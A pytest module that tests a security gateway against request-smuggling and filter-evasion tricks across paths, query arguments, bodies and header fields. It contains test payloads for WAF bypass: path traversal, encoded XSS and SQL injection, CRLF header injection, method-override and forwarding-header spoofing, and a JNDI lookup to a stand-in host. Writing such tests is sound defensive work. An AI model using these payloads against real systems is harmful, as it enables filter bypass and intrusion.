"""Ways to have the steps examine one thing and the service receive another.

Each trick is refused, or the service receives the very bytes that were examined: what is examined
must not depend on a decoding that the service does not do, nor miss one that it does.
"""

import asyncio
import gzip
import json
from dataclasses import dataclass

import pytest

from tests.openresty.gateway import Gateway
from tests.openresty.issuer import Issuer
from tests.security.gateway.conftest import IMPATIENT, StartGateway
from tests.security.gateway.recorder import Received, Recorder
from tests.security.gateway.wire import Answer, Connection, check_refusal, exchange, request

ATTACK = "<script>alert(document.cookie)</script>"
SQL = "' UNION SELECT password FROM users--"
USER = b"/api/users/01J9ZQ3YB7Q8R5T6V7W8X9Y0ZA"
JSON, FORM = b"application/json", b"application/x-www-form-urlencoded"
MSGPACK = b"application/msgpack"


@pytest.fixture(scope="module")
def gateway(start_gateway: StartGateway) -> Gateway:
    return start_gateway(**IMPATIENT)


def ask(gateway: Gateway, sent: bytes) -> Answer:
    answer = asyncio.run(exchange(gateway.port, sent))
    assert answer is not None
    return answer


def refused(gateway: Gateway, upstream: Recorder, sent: bytes) -> Answer:
    """The refusal; none of it has come to the service."""
    already = len(upstream.received)
    answer = ask(gateway, sent)
    check_refusal(answer)
    assert upstream.received[already:] == []
    return answer


def passed(gateway: Gateway, upstream: Recorder, sent: bytes) -> Received:
    """What the service has received of it."""
    already = len(upstream.received)
    answer = ask(gateway, sent)
    assert answer.status == 200, answer
    (received,) = upstream.received[already:]
    return received


def names(values: list[bytes]) -> list[str]:
    return [value[:70].decode("latin-1") for value in values]


# Addresses.

OTHER_PLACES = [
    # dot segments, in all spellings
    b"/identidock/../api/users",
    b"/identidock/./",
    b"/identidock/..",
    b"/./identidock/",
    b"/identidock/%2e%2e/api/users",
    b"/identidock/%2E%2E/api/users",
    b"/identidock/.%2e/api/users",
    b"/identidock/%2e./api/users",
    b"/monster/%2e",
    b"/monster/%2e%2e",
    b"/monster/..",
    b"/monster/%252e%252e",
    b"/monster/%25252e%25252e%25252f",
    b"/monster/..;/api/users",
    b"/monster/..;x=1",
    b"/monster/%2e%2e;x",
    b"/monster/..%3b/",
    b"/monster/..%00",
    b"/identidock/..%5c..%5capi",
    b"/identidock/..\\..\\api",
    b"/monster/a%2f..%2fb",
    # slashes
    b"//api/users",
    b"/api//users",
    b"/api/users/",
    b"/api/users//",
    b"///",
    b"/identidock//",
    b"/api%2fusers",
    b"/api%2Fusers",
    b"/api%252fusers",
    b"/api%5cusers",
    b"/api%5Cusers",
    b"/api\\users",
    b"/%61pi%2fusers",
    b"/monster/a%2fb",
    b"/monster/a%2Fb",
    b"/monster/a%5cb",
    # other spellings of a route
    b"/API/users",
    b"/Api/Users",
    b"/%61pi/users",
    b"/api/%75sers",
    b"/api/users%20",
    b"/api/users%09",
    b"/api/users.",
    b"/api/users..",
    b"/api/users%2e",
    b"/api/users;",
    b"/api/users;a=b",
    b"/api;a=b/users",
    b"/api/users%3b",
    b"/api/users%3f",
    b"/api/users%23",
    b"/api/users.json",
    b"/api/users%00",
    b"/api/users%00.css",
    b"/api/users%0a",
    b"/api/users%0d%0aX-Forged:%201",
    b"/api/users%ff",
    b"/api/users&",
    b"/api/users&limit=1",
    b"/healthz%20",
    b"/api/users~",
    "/\uff41pi/users".encode(),
    "/api\uff0fusers".encode(),
    b"/api%ef%bc%8fusers",
    # what is no UTF-8, above all overlong slashes and dots
    b"/api%c0%afusers",
    b"/api%c1%9cusers",
    b"/api%e0%80%afusers",
    b"/api%f0%80%80%afusers",
    b"/monster/%c0%ae%c0%ae",
    b"/monster/%e0%80%ae%e0%80%ae",
    b"/monster/a%c0%afb",
    b"/monster/%ed%a0%80",
    b"/monster/%f4%90%80%80",
    b"/monster/%80",
    b"/monster/\xc0\xaf",
    # what is no escape
    b"/monster/%",
    b"/monster/%2",
    b"/monster/%zz",
    b"/monster/%u002e%u002e%u002f",
    b"/monster/%%32%65",
    b"/monster/%2%65",
    b"/monster/%u2215",
    b"/monster/a%00b",
    b"/monster/a%0d%0ab",
    b"/monster/a%7f",
    b"/monster/a#b",
    b"/monster/a%01",
    # prefixes that are stripped
    b"/identidock%2f",
    b"/identidock/%2e%2e%2f",
    b"/identidock/api/users",
    b"/identidock/%2fapi/users",
    b"/identidock/style.css/..",
    b"/identidock;/",
    b"/identidock./",
    b"/IDENTIDOCK/",
    b"http://gateway.test/identidock/../api/users",
    b"http://gateway.test//api/users",
    b"http://gateway.test",
    b"http://gateway.test?/api/users",
    b"http://gateway.test/api%2fusers",
    b"http://other.test/api/users",
    b"ftp://other.test/api/users",
    # what the gateway itself is made of
    b"/.refusal",
    b"/.refusal/",
    b"/%2erefusal",
    b"/@websocket",
    b"/@published",
    b"/@pictures",
    b"/metrics",
    b"/nginx_status",
    b"/server-status",
]


@pytest.mark.parametrize("target", OTHER_PLACES, ids=names(OTHER_PLACES))
def test_there_is_one_spelling_of_an_address(
    gateway: Gateway, upstream: Recorder, token: bytes, target: bytes
) -> None:
    sent = request(b"GET", target, b"Authorization: Bearer " + token)
    already = len(upstream.received)
    answer = ask(gateway, sent)
    assert upstream.received[already:] == []
    if answer.status != 302:  # "/" leads to the documentation
        check_refusal(answer)


AS_IT_CAME = [
    b"/monster/a;b=c",
    b"/monster/...",
    b"/monster/a..b",
    b"/monster/.a",
    b"/monster/a.",
    b"/monster/a%20",
    b"/monster/a+b",
    b"/monster/a%2Bb",
    b"/monster/%41",
    b"/monster/%25",
    b"/monster/%e2%82%ac",
    b"/monster/a&b=c",
    b"/monster/a=b",
    b"/monster/a:b@c",
    b"/monster/a%3fb",
    b"/monster/a%23b",
    "/monster/\uff0e\uff0e".encode(),
    b"/monster/%ef%bc%8e%ef%bc%8e",
    b"/monster/%E2%88%95",
    b"/monster/a?size=32",
    b"/monster/a?size=%33%32",
    b"/monster/a?si%7ae=32",
    b"/monster/a?",
    b"/monster/a?size=032",
]


@pytest.mark.parametrize("target", AS_IT_CAME, ids=names(AS_IT_CAME))
def test_an_address_goes_on_byte_for_byte(
    gateway: Gateway, upstream: Recorder, target: bytes
) -> None:
    """Neither decoded nor encoded again: nginx's own reading of it is nobody's."""
    assert passed(gateway, upstream, request(b"GET", target)).target == target


ARGUMENTS = [
    b"limit=1&limit=2",
    b"limit=1&%6cimit=2",
    b"limit=1&limi%74=200",
    b"limit[]=1",
    b"limit=1;limit=2",
    b"LIMIT=1",
    b"limit =1",
    b"limit%00=1",
    b"limit=1%00",
    b"limit=%31%30%30%30",
    b"limit=1%0a",
    b"limit=+1",
    b"limit=%201",
    b"limit=1e1",
    b"limit=0x1",
    b"limit=1.0",
    "limit=\uff11".encode(),
    b"limit=%ef%bc%91",
    b"limit=%d9%a1",
    b"limit=-1",
    b"limit=",
    b"limit",
    b"q=%c0%bcscript%c0%be",
    b"q=%ff",
    b"q=%",
    b"q=%u003cscript%u003e",
    b"q=a&q=b",
    b"nowhere=1",
    b"q=a&&=b",
    b"=a",
    b"q.x=a",
    b"q=a%0d%0aX-Forged:%201",
    b"_method=DELETE",
    b"access_token=a",
]


@pytest.mark.parametrize("query", ARGUMENTS, ids=names(ARGUMENTS))
def test_there_is_one_reading_of_an_argument(
    gateway: Gateway, upstream: Recorder, token: bytes, query: bytes
) -> None:
    sent = request(b"GET", b"/api/users?" + query, b"Authorization: Bearer " + token)
    refused(gateway, upstream, sent)


def percent(text: str, times: int = 1) -> bytes:
    encoded = text.encode()
    for _ in range(times):
        encoded = b"".join(b"%%%02x" % byte for byte in encoded)
    return encoded


DISGUISED = {
    "percent": percent(ATTACK),
    "percent twice": percent(ATTACK, 2),
    "percent in capitals": percent(ATTACK).upper(),
    "half of it percent": b"%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "full width": percent(ATTACK.replace("<", "\uff1c").replace(">", "\uff1e")),
    "entities": percent("&lt;script&gt;alert(document.cookie)&lt;/script&gt;"),
    "numeric entities": percent("&#x3c;script&#62;alert(document.cookie)&#x3C;/script>"),
    "escapes of JavaScript": percent("\\u003cscript\\x3ealert(document.cookie)</script>"),
    "SQL": percent(SQL),
    "SQL with comments": percent("'/**/UNION/**/SELECT/**/password/**/FROM/**/users--"),
    "SQL with pluses": b"'+UNION+SELECT+password+FROM+users--",
    "SQL in mixed case": percent("' uNiOn SeLeCt password FrOm users--"),
    "SQL of full width": percent("\uff07 UNION SELECT password FROM users--"),
}


@pytest.mark.parametrize("value", DISGUISED.values(), ids=DISGUISED)
def test_an_attack_is_seen_through_its_disguise(
    gateway: Gateway, upstream: Recorder, token: bytes, value: bytes
) -> None:
    sent = request(b"GET", b"/api/users?q=" + value, b"Authorization: Bearer " + token)
    assert refused(gateway, upstream, sent).code == "request_blocked"


# Bodies.


@dataclass(frozen=True)
class Body:
    name: str
    content_type: bytes
    body: bytes
    code: str = ""
    """Of the refusal, where there is one that it has to be."""
    lines: tuple[bytes, ...] = ()


def pack(text: str) -> bytes:
    raw = text.encode()
    return b"\xda" + len(raw).to_bytes(2, "big") + raw


ONE = json.dumps({"name": ATTACK}).encode()
PLAIN = b'{"name":"a"}'
MALFORMED, BLOCKED, TYPE = "invalid_request", "request_blocked", "unsupported_media_type"
BODIES = [
    # JSON in other encodings, or with what is no JSON
    Body("JSON with a BOM", JSON, b"\xef\xbb\xbf" + PLAIN, MALFORMED),
    *[
        Body(f"JSON in {encoding}", JSON, ONE.decode().encode(encoding), MALFORMED)
        for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037")
    ],
    Body("JSON with a comment", JSON, b'{"name":"a"/*b*/}', MALFORMED),
    Body("JSON with a line's comment", JSON, b'{"name":"a"//b\n}', MALFORMED),
    Body("JSON with something after it", JSON, PLAIN + b"x", MALFORMED),
    Body("JSON twice", JSON, PLAIN + ONE, MALFORMED),
    Body("JSON and NUL", JSON, PLAIN + b"\0", MALFORMED),
    Body("JSON with NaN", JSON, b'{"name":NaN}', MALFORMED),
    Body("JSON with Infinity", JSON, b'{"name":-Infinity}', MALFORMED),
    Body("JSON with a comma too many", JSON, b'{"name":"a",}', MALFORMED),
    Body("JSON with single quotes", JSON, b"{'name':'a'}", MALFORMED),
    Body("JSON with a bare name", JSON, b'{name:"a"}', MALFORMED),
    Body("JSON with hexadecimal", JSON, b'{"name":0x10}', MALFORMED),
    Body("JSON with leading zeros", JSON, b'{"name":010}', MALFORMED),
    Body("JSON with a bare line break", JSON, b'{"name":"a\nb"}', MALFORMED),
    Body("JSON with a bad escape", JSON, b'{"name":"\\x41"}', MALFORMED),
    Body("JSON with a no-break space", JSON, '{\u00a0"name":"a"}'.encode(), MALFORMED),
    Body("JSON too deep", JSON, b"[" * 100 + b"]" * 100, MALFORMED),
    Body("JSON with overlong UTF-8", JSON, b'{"name":"\xc0\xbcscript\xc0\xbe"}', MALFORMED),
    Body("JSON that is not UTF-8", JSON, b'{"name":"\xff"}', MALFORMED),
    Body("JSON with a surrogate in UTF-8", JSON, b'{"name":"\xed\xa0\xbc"}', MALFORMED),
    Body("no JSON", JSON, b"name=" + percent(ATTACK), MALFORMED),
    Body("an empty body", JSON, b" ", MALFORMED),
    # attacks in JSON
    Body("an attack in the first of two names", JSON, ONE[:-1] + b',"name":"a"}', BLOCKED),
    Body("an attack in the second of two names", JSON, b'{"name":"a",' + ONE[1:], BLOCKED),
    Body("an attack with escapes", JSON, ONE.replace(b"<", b"\\u003c"), BLOCKED),
    Body(
        "an attack all in escapes",
        JSON,
        b'{"name":"%b"}' % b"".join(b"\\u%04X" % ord(letter) for letter in ATTACK),
        BLOCKED,
    ),
    Body("an attack in a name", JSON, json.dumps({ATTACK: 1}).encode(), BLOCKED),
    Body("an attack as the whole", JSON, json.dumps(ATTACK).encode(), BLOCKED),
    Body("an attack deep inside", JSON, b"[" * 20 + ONE + b"]" * 20, BLOCKED),
    Body("an attack far behind", JSON, b'["%b",%b]' % (b"a " * 50000, ONE), BLOCKED),
    Body("JSON in JSON", JSON, json.dumps({"name": json.dumps({"a": ATTACK})}).encode(), BLOCKED),
    # MessagePack
    Body("MessagePack", MSGPACK, b"\x81\xa4name" + pack(ATTACK), BLOCKED),
    Body("MessagePack, a name", MSGPACK, b"\x81" + pack(ATTACK) + b"\x01", BLOCKED),
    Body(
        "MessagePack, binary",
        MSGPACK,
        b"\x81\xa4name\xc4%c" % len(ATTACK) + ATTACK.encode(),
        BLOCKED,
    ),
    Body(
        "MessagePack, an extension",
        MSGPACK,
        b"\x81\xa4name\xc7%c\x05" % len(ATTACK) + ATTACK.encode(),
        BLOCKED,
    ),
    Body(
        "MessagePack, an extension as a name",
        MSGPACK,
        b"\x81\xc7%c\x05" % len(ATTACK) + ATTACK.encode() + b"\x01",
        BLOCKED,
    ),
    Body(
        "MessagePack, the first of two names",
        MSGPACK,
        b"\x82\xa4name" + pack(ATTACK) + b"\xa4name\xa1a",
        BLOCKED,
    ),
    Body("MessagePack with something after it", MSGPACK, b"\x81\xa4name\xa1a\x00", MALFORMED),
    Body("MessagePack that ends early", MSGPACK, b"\x81\xa4name\xda\xff\xffa", MALFORMED),
    Body("MessagePack of the reserved byte", MSGPACK, b"\xc1", MALFORMED),
    Body("MessagePack too deep", MSGPACK, b"\x91" * 100 + b"\x01", MALFORMED),
    Body("MessagePack that promises too much", MSGPACK, b"\xdd\xff\xff\xff\xff", MALFORMED),
    Body("JSON that says MessagePack", MSGPACK, ONE),
    Body("MessagePack that says JSON", JSON, b"\x81\xa4name" + pack(ATTACK), MALFORMED),
    # types and encodings of which the steps could think otherwise than the service
    *[
        Body(f"Content-Type: {content_type!r}", content_type, ONE, TYPE)
        for content_type in [
            b"text/plain",
            b"text/json",
            b"application/x-json",
            b"application/json+x",
            b"application/json, text/plain",
            b"text/plain, application/json",
            b'"application/json"',
            b"application/ json",
            b"application /json",
            b"application/json/x",
            b"application",
            b"*/*",
            b"application/*",
            b"multipart/form-data; boundary=x",
            b"application/xml",
            b"application/json; charset=utf-7",
            b"application/json; charset=utf-16",
            b"application/json; charset=UTF-16LE",
            b"application/json; charset=utf-32",
            b"application/json; charset=cp037",
            b"application/json; charset=ibm500",
            b"application/json; charset=iso-2022-jp",
            b"application/json; charset=shift_jis",
            b"application/json; charset=gbk",
            b"application/json; charset=hz",
            b"application/json; charset=utf-8; charset=utf-7",
            b'application/json; charset="utf-7"',
            b"application/json; charset*=utf-8''utf-7",
            b"application/json; charset*0=utf-7",
            b"application/json; charset = utf-7",
            b"application/json; Charset=UTF-7",
            b"application/json;charset=utf-7",
            b"application/json; charset=utf-8x",
            b"application/json; charset=",
            b"application/json; a=b; charset=utf-7",
            b'application/json; a="b; charset=utf-8"; charset=utf-7',
            b"application/json; charset='utf-8'",
        ]
    ],
    *[
        Body(
            f"Content-Encoding: {coding.decode()}",
            JSON,
            gzip.compress(ONE),
            TYPE,
            (b"Content-Encoding: " + coding,),
        )
        for coding in [
            b"gzip",
            b"GZIP",
            b"x-gzip",
            b"deflate",
            b"br",
            b"zstd",
            b"compress",
            b"identity, gzip",
            b"gzip, identity",
            b"unknown",
            b"aes128gcm",
        ]
    ],
    Body(
        "Content-Encoding twice",
        JSON,
        gzip.compress(ONE),
        MALFORMED,
        (b"Content-Encoding: identity", b"Content-Encoding: gzip"),
    ),
    Body("Content-Type twice", JSON, ONE, "", (b"Content-Type: application/msgpack",)),
    Body("Content-Type in another case too", JSON, ONE, "", (b"content-type: text/plain",)),
    Body("a gzipped body that doesn't say so", JSON, gzip.compress(ONE), MALFORMED),
    *[
        Body(name.decode(), JSON, PLAIN, MALFORMED, (name + b": DELETE",))
        for name in [
            b"X-HTTP-Method-Override",
            b"X-HTTP-Method",
            b"X-Method-Override",
            b"x-http-method-override",
        ]
    ],
]


@pytest.mark.parametrize("case", BODIES, ids=lambda case: case.name)
def test_a_body_is_what_it_says_and_is_examined_as_that(
    gateway: Gateway, upstream: Recorder, token: bytes, case: Body
) -> None:
    lines = [b"Authorization: Bearer " + token, b"Content-Type: " + case.content_type, *case.lines]
    sent = request(b"POST", b"/api/users", *lines, body=case.body)
    answer = refused(gateway, upstream, sent)
    assert answer.code == (case.code or answer.code)


FORMS = {
    "plain": b"name=" + ATTACK.encode(),
    "percent": b"name=" + percent(ATTACK),
    "percent twice": b"name=" + percent(ATTACK, 2),
    "after a semicolon": b"name=a;name=" + percent(ATTACK),
    "after an ampersand": b"name=a&&&name=" + percent(ATTACK),
    "a name": percent(ATTACK) + b"=a",
    "without an equals sign": percent(ATTACK),
    "after a second equals sign": b"name=a=" + percent(ATTACK),
    "behind much else": b"a=b&" * 500 + b"name=" + percent(ATTACK),
    "JSON in a form": ONE,
    "a multipart in a form": b"--x\r\n\r\n" + ATTACK.encode() + b"\r\n--x--",
    "behind NUL": b"name=a%00" + percent(ATTACK),
    "of full width": b"name=" + percent(ATTACK.replace("<", "\uff1c").replace(">", "\uff1e")),
}


@pytest.mark.parametrize("body", FORMS.values(), ids=FORMS)
@pytest.mark.parametrize("chunked", [False, True], ids=["with a length", "chunked"])
def test_a_form_is_examined_wherever_it_hides_something(
    gateway: Gateway, upstream: Recorder, body: bytes, *, chunked: bool
) -> None:
    line = b"Content-Type: " + FORM
    if chunked:
        head = request(b"POST", b"/identidock/", line, b"Transfer-Encoding: chunked")
        sent = head + b"".join(b"1\r\n%c\r\n" % byte for byte in body) + b"0\r\n\r\n"
    else:
        sent = request(b"POST", b"/identidock/", line, body=body)
    assert refused(gateway, upstream, sent).code == BLOCKED


@pytest.mark.parametrize(
    "content_type",
    [
        JSON,
        b"Application/JSON",
        JSON + b"; charset=utf-8",
        JSON + b";charset=UTF-8",
        JSON + b" ;a=b",
        JSON + b'; charset="utf-8"',
        JSON + b";",
        JSON + b"; a=b; charset=utf-8",
    ],
)
def test_the_usual_spellings_of_a_type_pass(
    gateway: Gateway, upstream: Recorder, token: bytes, content_type: bytes
) -> None:
    lines = [b"Authorization: Bearer " + token, b"Content-Type: " + content_type]
    received = passed(gateway, upstream, request(b"POST", b"/api/users", *lines, body=PLAIN))
    assert received.body == PLAIN
    assert received.all(b"content-type") == [content_type]


# Header fields.

OTHER_ADDRESSES = [
    b"X-Original-URL",
    b"X-Rewrite-URL",
    b"X-Forwarded-Host",
    b"X-Forwarded-Prefix",
    b"Forwarded",
    b"X-Forwarded-Port",
    b"X-Real-IP",
    b"Proxy",
    b"TE",
    b"Proxy-Authorization",
]


def test_fields_that_make_another_request_of_it_end_here(
    gateway: Gateway, upstream: Recorder
) -> None:
    lines = [name + b": /api/users" for name in OTHER_ADDRESSES]
    received = passed(gateway, upstream, request(b"GET", b"/identidock/", *lines))
    for name in OTHER_ADDRESSES:
        assert not received.all(name.lower())
    assert received.target == b"/"


@pytest.mark.parametrize(
    "line",
    [
        b"X_Original_URL: /api/users",
        b"X_HTTP_Method_Override: DELETE",
        b"Content_Length: 9",
        b"X_Forwarded_For: 192.0.2.1",
        b"Authoriz\xc3\xa4tion: Bearer a",
    ],
)
def test_names_that_only_look_like_others_end_here(
    gateway: Gateway, upstream: Recorder, line: bytes
) -> None:
    """A service that knows fields by CGI's names can't tell an underscore from a hyphen."""
    received = passed(gateway, upstream, request(b"GET", b"/identidock/", line))
    assert line.partition(b":")[0] not in received.raw


@pytest.mark.parametrize("address", [b"192.0.2.1", b"127.0.0.1, 192.0.2.1", b"::1", b"x"])
def test_an_address_that_a_caller_claims_ends_here(
    gateway: Gateway, upstream: Recorder, address: bytes
) -> None:
    line = b"X-Forwarded-For: " + address
    received = passed(gateway, upstream, request(b"GET", b"/identidock/", line, line))
    assert received.all(b"x-forwarded-for") == [b"127.0.0.1"]


@pytest.mark.parametrize(
    "lines",
    [
        (b"Authorization: Bearer %b", b"Authorization: Bearer x"),
        (b"Authorization: Bearer x", b"Authorization: Bearer %b"),
        (b"Authorization: Bearer %b", b"Authorization: Bearer %b"),
        (b"Authorization: Basic YTpi", b"Authorization: Bearer %b"),
        (b"Authorization: Bearer %b", b"authorization: Basic YTpi"),
        (b"Authorization: Bearer %b, Bearer x",),
        (b"Authorization: Bearer x, Bearer %b",),
        (b"Authorization: Basic YTpi, Bearer %b",),
        (b"Authorization: Bearer  x %b",),
        (b"Authorization: Bearer\t%b",),
        (b"Authorization: Bearer=%b",),
        (b'Authorization: Bearer "%b"',),
        (b"Authorization: Bearer %b\x00",),
        (b"Authorization: DPoP %b",),
        (b"Authorization : Bearer %b",),
        (b"Authorization:\r\n Bearer %b",),
        (b"Authorization_: Bearer %b",),
        (b"Proxy-Authorization: Bearer %b",),
        (b"X-Authorization: Bearer %b",),
        (b"Cookie: Authorization=Bearer %b",),
    ],
    ids=lambda lines: b" and ".join(lines).decode(),
)
def test_there_is_one_token_or_none(
    gateway: Gateway, upstream: Recorder, token: bytes, lines: tuple[bytes, ...]
) -> None:
    filled = [line.replace(b"%b", token) for line in lines]
    answer = refused(gateway, upstream, request(b"GET", b"/api/users", *filled))
    assert answer.status in (400, 401)


@pytest.mark.parametrize(
    ("method", "target"),
    [
        (b"POST", b"/api/users"),
        (b"DELETE", USER),
        (b"PATCH", USER),
        (b"DELETE", b"/api/services/x"),
    ],
)
def test_no_other_token_does_for_writing(
    gateway: Gateway, upstream: Recorder, issuer: Issuer, method: bytes, target: bytes
) -> None:
    reading = b"Authorization: Bearer " + issuer.token("data:read").encode()
    lines = [reading] if method == b"DELETE" else [reading, b"Content-Type: " + JSON]
    body = b"" if method == b"DELETE" else PLAIN
    answer = refused(gateway, upstream, request(method, target, *lines, body=body))
    assert answer.code == "insufficient_scope"


ATTACKING_FIELDS = [
    b"User-Agent: " + ATTACK.encode(),
    b"Referer: https://x.test/?q=" + percent(ATTACK),
    b"Cookie: a=b; c=" + percent(ATTACK),
    b"Cookie: a=b\r\nCookie: c=" + percent(ATTACK),
    b"X-Made-Up: " + ATTACK.encode(),
    b"X-Made-Up: a\r\nX-Made-Up: " + ATTACK.encode(),
    b"Accept: */*\r\nAccept: " + ATTACK.encode(),
    b"If-None-Match: " + ATTACK.encode(),
    b"Accept-Language: ${jndi:ldap://x.test/a}",
    b"Range: bytes=" + percent(SQL),
]


@pytest.mark.parametrize("lines", ATTACKING_FIELDS, ids=names(ATTACKING_FIELDS))
def test_every_value_of_every_field_is_examined(
    gateway: Gateway, upstream: Recorder, lines: bytes
) -> None:
    assert refused(gateway, upstream, request(b"GET", b"/identidock/", lines)).code == BLOCKED


def test_the_second_sending_of_an_attack_is_blocked_like_the_first(
    gateway: Gateway, upstream: Recorder, token: bytes
) -> None:
    """What is remembered as clean, and connections that are used again, change nothing."""
    bad = request(b"GET", b"/identidock/", b"User-Agent: " + ATTACK.encode())
    good = request(b"GET", b"/identidock/", b"User-Agent: plain")

    async def statuses() -> list[int]:
        async with Connection(gateway.port) as connection:
            found = []
            for sent in [good, bad, good, bad, bad, good]:
                await connection.send(sent)
                answer = await connection.answer()
                assert answer
                found.append(answer.status)
            return found

    assert asyncio.run(statuses()) == [200, 403, 200, 403, 403, 200]
